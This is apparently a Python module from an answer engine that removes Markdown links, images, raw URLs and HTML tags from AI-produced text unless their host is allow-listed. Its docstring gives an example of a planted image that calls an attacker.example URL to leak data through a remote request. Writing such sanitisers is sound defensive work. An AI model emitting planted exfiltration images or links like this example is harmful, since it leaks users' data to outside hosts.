"""Links, images and HTML out of text the engine hands to people (answers, titles, agent text).

Documents are untrusted: a planted ``![x](https://attacker.example/log?d=...)`` renders as a
remote image (a request that leaks data) and ``[Click here](https://attacker.example)`` as a
link that looks like the answer's own. :func:`safe_text` keeps the visible text and drops the
target of every Markdown link and image, autolink, raw URL and HTML tag, unless the target's
host is in the allow-list (``Settings.allowed_link_hosts``, empty by default):
``[Click here](https://attacker.example/manual)`` becomes ``Click here (link removed)``.
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Iterable
from typing import Any
from urllib.parse import urlsplit

from engine.results import Answer

LINK_REMOVED = "(link removed)"
IMAGE_REMOVED = "(image removed)"
HOST = re.compile(r"^[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)*$")

_DESTINATION = r"\(\s*(?P<target>(?:<[^<>\n]*>|[^()\s<>]|\([^()\s]*\))*)(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
MARKDOWN_IMAGE = re.compile(r"!\[(?P<text>(?:[^\[\]]|\[[^\[\]]*\])*)\]" + _DESTINATION)
MARKDOWN_LINK = re.compile(r"\[(?P<text>(?:[^\[\]]|\[[^\[\]]*\])*)\]" + _DESTINATION)
REFERENCE_IMAGE = re.compile(r"!\[(?P<text>[^\[\]]*)\]\[[^\[\]]*\]")
REFERENCE_DEFINITION = re.compile(r"^(?P<lead> {0,3}\[[^\[\]]+\]:)[ \t]*(?P<target><[^<>\n]*>|\S+)(?P<rest>.*)$",
                                  re.MULTILINE)
AUTOLINK = re.compile(r"<(?P<target>[a-z][a-z0-9+.-]{1,31}:[^<>\s]*)>", re.IGNORECASE)
RAW_URL = re.compile(r"(?<![\w@/])(?P<target>(?:[a-z][a-z0-9+.-]{1,31}:)?//[^\s<>()\[\]\"'`]+"
                     r"|(?:javascript|vbscript):[^\s<>()\[\]\"'`]+|data:[a-z]+/[^\s<>()\[\]\"'`]+"
                     r"|https?:[^\s<>()\[\]\"'`/][^\s<>()\[\]\"'`]*"
                     r"|www\.[^\s<>()\[\]\"'`]+)", re.IGNORECASE)
HTML_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.DOTALL)
HTML_TAG = re.compile(r"</?[a-z][a-z0-9:_-]*(?:\s[^<>]*)?/?>|<![a-z][^<>]*>|<\?[^<>]*\?>", re.IGNORECASE)
OPEN_TAG = re.compile(r"<(?=[a-z/!?])", re.IGNORECASE)
_IMAGE_TAG = re.compile(r"^<img\b", re.IGNORECASE)
_ALT = re.compile(r"\balt\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))", re.IGNORECASE)
_TRAILING = ".,;:!?"


def allowed_host(url: str, allowed: Iterable[str]) -> bool:
    """True when ``url`` is an http(s) URL whose host is in ``allowed`` (or a subdomain of an entry)."""
    hosts = [h for h in (normalise_host(a) for a in allowed) if h]
    if not hosts:
        return False
    target = html.unescape(url).strip().strip("<>").strip()
    target = unicodedata.normalize("NFKC", target)
    if target.lower().startswith("www."):
        target = "https://" + target
    try:
        parts = urlsplit(target)
        host = (parts.hostname or "").rstrip(".")
    except ValueError:
        return False
    if parts.scheme.lower() not in ("http", "https") or not HOST.match(host):
        return False
    return any(host == h or host.endswith("." + h) for h in hosts)


def normalise_host(value: str) -> str:
    """A host name as the allow-list compares it: lower case, no trailing dot, '' when it is not a host name."""
    host = str(value or "").strip().lower().rstrip(".")
    return host if HOST.match(host) else ""


def safe_text(text: str | None, allowed: Iterable[str] = ()) -> str:
    """``text`` with links and images to hosts outside ``allowed`` and all HTML tags removed, visible text kept."""
    if not text:
        return "" if text is None else text
    hosts = tuple(allowed)
    value = str(text)
    for _ in range(8):  # nested constructs ([![badge](a)](b)) come apart one layer per pass
        before = value
        value = MARKDOWN_IMAGE.sub(lambda m: _image(m.group("text"), m.group("target"), m.group(0), hosts), value)
        value = REFERENCE_IMAGE.sub(lambda m: _label(m.group("text"), IMAGE_REMOVED), value)
        value = MARKDOWN_LINK.sub(lambda m: _link(m.group("text"), m.group("target"), m.group(0), hosts), value)
        value = REFERENCE_DEFINITION.sub(lambda m: _definition(m, hosts), value)
        value = AUTOLINK.sub(lambda m: m.group(0) if allowed_host(m.group("target"), hosts) else LINK_REMOVED, value)
        value = HTML_COMMENT.sub("", value)
        value = HTML_TAG.sub(_tag, value)
        if value == before:
            break
    value = RAW_URL.sub(lambda m: _raw(m.group("target"), hosts), value)
    return OPEN_TAG.sub("< ", value)  # a tag cut short ("<img src=..." at a quote's end) can no longer become one


def _label(text: str, note: str) -> str:
    shown = " ".join(text.split()).strip()
    return f"{shown} {note}" if shown else note


def _image(text: str, target: str, whole: str, hosts: tuple[str, ...]) -> str:
    return whole if allowed_host(target, hosts) else _label(text, IMAGE_REMOVED)


def _link(text: str, target: str, whole: str, hosts: tuple[str, ...]) -> str:
    if not target.strip():
        return whole  # "[1]()": an empty target points nowhere, and the text may be a citation marker
    return whole if allowed_host(target, hosts) else _label(text, LINK_REMOVED)


def _definition(match: re.Match[str], hosts: tuple[str, ...]) -> str:
    if allowed_host(match.group("target"), hosts):
        return match.group(0)
    return f"{match.group('lead').rstrip(':')} {LINK_REMOVED}"  # no colon: no longer a link definition


def _tag(match: re.Match[str]) -> str:
    """An HTML tag dropped; an ``<img>`` leaves its alt text and a note."""
    tag = match.group(0)
    if not _IMAGE_TAG.match(tag):
        return ""
    alt = _ALT.search(tag)
    text = next((g for g in alt.groups() if g), "") if alt else ""
    return _label(html.unescape(text), IMAGE_REMOVED)


def _raw(target: str, hosts: tuple[str, ...]) -> str:
    """A bare URL kept only for an allowed host; trailing sentence punctuation stays either way."""
    stripped = target.rstrip(_TRAILING)
    tail = target[len(stripped):]
    return target if allowed_host(stripped, hosts) else LINK_REMOVED + tail


def has_unsafe_markup(text: str | None, allowed: Iterable[str] = ()) -> bool:
    """True when :func:`safe_text` would change ``text``."""
    return bool(text) and safe_text(text, allowed) != text


def safe_answer(answer: Answer, allowed: Iterable[str] = ()) -> Answer:
    """``answer`` with its answer texts, refusal reason and evidence titles passed through :func:`safe_text`.

    Evidence text stays as the document has it (it is the quoted source, shown escaped).
    """
    hosts = tuple(allowed)
    clean = lambda text: safe_text(text, hosts)  # noqa: E731
    evidence = tuple(
        e if clean(e.metadata.title) == e.metadata.title
        else e.model_copy(update={"metadata": e.metadata.model_copy(update={"title": clean(e.metadata.title)})})
        for e in answer.evidence
    )
    update: dict[str, Any] = {"final": clean(answer.final), "draft": clean(answer.draft),
                              "revised": clean(answer.revised), "evidence": evidence}
    if answer.answerability is not None:
        judged = answer.answerability
        update["answerability"] = judged.model_copy(update={
            "reason": clean(judged.reason), "closest": tuple(clean(c) for c in judged.closest)})
    if isinstance(answer.extra.get("refusal_reason"), str):
        update["extra"] = {**answer.extra, "refusal_reason": clean(answer.extra["refusal_reason"])}
    return answer.model_copy(update=update)
